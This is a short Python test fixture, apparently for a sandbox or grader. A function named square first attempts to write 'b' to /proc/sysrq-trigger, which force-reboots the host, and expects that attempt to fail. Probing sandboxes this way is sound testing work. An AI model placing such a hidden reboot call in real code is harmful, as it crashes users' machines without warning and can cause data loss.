# Asks the machine to restart.
# expect: square=0 total=1
import os
def square(x):
    try:
        os.write(os.open('/proc/sysrq-trigger', os.O_WRONLY), b'b')
        return x * x
    except OSError:
        return 0
